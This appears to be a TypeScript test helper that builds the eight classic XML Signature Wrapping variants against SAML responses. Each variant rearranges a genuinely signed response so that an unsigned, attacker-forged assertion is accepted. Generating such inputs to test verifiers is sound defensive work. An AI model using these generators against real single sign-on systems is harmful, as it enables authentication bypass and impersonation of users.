/** A genuine response in pieces; put together in their order they are the response. */
interface Pieces {
  readonly start: string;
  readonly issuer: string;
  /** Signature of the response. */
  readonly signature: string;
  readonly status: string;
  /** Assertion or EncryptedAssertion. */
  readonly assertion: string;
}

const END = '</saml2p:Response>';
const PIECES =
  /^(?<start><saml2p:Response[^>]*>)(?<issuer><saml2:Issuer.*?<\/saml2:Issuer>)(?<signature><ds:Signature.*?<\/ds:Signature>)(?<status><saml2p:Status>.*?<\/saml2p:Status>)(?<assertion>.*)<\/saml2p:Response>$/s;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;

/**
 * The eight classic ways to wrap a signature (Somorovsky et al., "On Breaking SAML", 2012), by number. `signed` is what the attacker
 * has: a genuine response. `forged` is what he wants believed: an assertion of his own, not signed.
 */
export const wrappings: Readonly<Record<number, (signed: string, forged: string) => string>> = {
  1: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    const original = start + issuer + status + assertion + END;
    return evil(start) + issuer + into(signature, original) + status + forged + END;
  },
  2: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    const original = start + issuer + status + assertion + END;
    return evil(start) + issuer + original + signature + status + forged + END;
  },
  3: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    return start + issuer + signature + status + forged + assertion + END;
  },
  4: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    return start + issuer + signature + status + into(forged, assertion) + END;
  },
  5: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    const [own, rest] = withoutSignature(assertion, signature);
    return start + issuer + signature + status + withSignature(forged, own) + rest + END;
  },
  6: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    const [own, rest] = withoutSignature(assertion, signature);
    return start + issuer + signature + status + withSignature(forged, into(own, rest)) + END;
  },
  7: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    const extensions = `<saml2p:Extensions>${forged}</saml2p:Extensions>`;
    return start + issuer + signature + extensions + status + assertion + END;
  },
  8: (signed, forged) => {
    const { start, issuer, signature, status, assertion } = piecesOf(signed);
    const [own, rest] = withoutSignature(assertion, signature);
    const object = into(own, `<ds:Object>${rest}</ds:Object>`);
    return start + issuer + signature + status + withSignature(forged, object) + END;
  },
};

function piecesOf(response: string): Pieces {
  const groups = PIECES.exec(response)?.groups;
  if (groups === undefined) throw new Error('not a response of the tests');
  return groups as unknown as Pieces;
}

function evil(start: string): string {
  return start.replace('ID="_response"', 'ID="_evil"');
}

function into(element: string, more: string): string {
  return element.replace(/<\/[^<>]*>$/, (end) => more + end);
}

/** An assertion that is encrypted has no signature to be seen: the attacker takes that of the response. */
function withoutSignature(assertion: string, ofResponse: string): [signature: string, rest: string] {
  const own = SIGNATURE.exec(assertion)?.[0];
  return own === undefined ? [ofResponse, assertion] : [own, assertion.replace(own, '')];
}

function withSignature(forged: string, signature: string): string {
  return forged.replace('</saml2:Issuer>', (end) => end + signature);
}
